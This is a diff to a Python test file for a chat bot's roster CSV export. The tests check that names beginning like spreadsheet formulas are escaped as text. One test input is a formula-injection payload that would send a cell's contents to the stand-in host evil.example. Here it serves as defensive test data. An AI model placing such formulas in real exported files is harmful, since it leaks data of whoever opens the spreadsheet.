@@ -15,7 +15,6 @@ import pytest
 from click.testing import CliRunner
 from sqlalchemy import func, select
 
-from bot.cli.events import spreadsheet_text
 from bot.services import Services
 from bot.wechat.fake_api import FakeWeChatServer
 from models import OutboxMessage
@@ -453,7 +452,14 @@ def test_roster_in_every_format(staff: CliRunner, services: Services, tmp_path: 
 
 
 @pytest.mark.parametrize(
-    "name", ['=HYPERLINK("http://evil.example/?x="&B2,"点我")', "+1+1", "-2+3", "@SUM(A1)"]
+    "name",
+    [
+        '=HYPERLINK("http://evil.example/?x="&B2,"点我")',
+        "+1+1",
+        "-2+3",
+        "@SUM(A1)",
+        "＝1+1",
+    ],
 )
 def test_roster_csv_keeps_a_formula_name_as_text(
     staff: CliRunner, services: Services, tmp_path: Path, name: str
@@ -471,18 +477,6 @@ def test_roster_csv_keeps_a_formula_name_as_text(
         rows = list(csv.DictReader(handle))
     assert [row["name"] for row in rows] == [f"'{name}", "李四-2", f"'{name}"]
     assert rows[0]["mobile"] == "13812345678" and rows[0]["party_size"] == "1"
-
-
-def test_spreadsheet_text_quotes_every_formula_start() -> None:
-    assert [spreadsheet_text(cell) for cell in ("\t=1", "\r=1", "=1", "张三", "", None, 2)] == [
-        "'\t=1",
-        "'\r=1",
-        "'=1",
-        "张三",
-        "",
-        None,
-        2,
-    ]
 
 
 def test_roster_refusals(staff: CliRunner, tmp_path: Path) -> None:
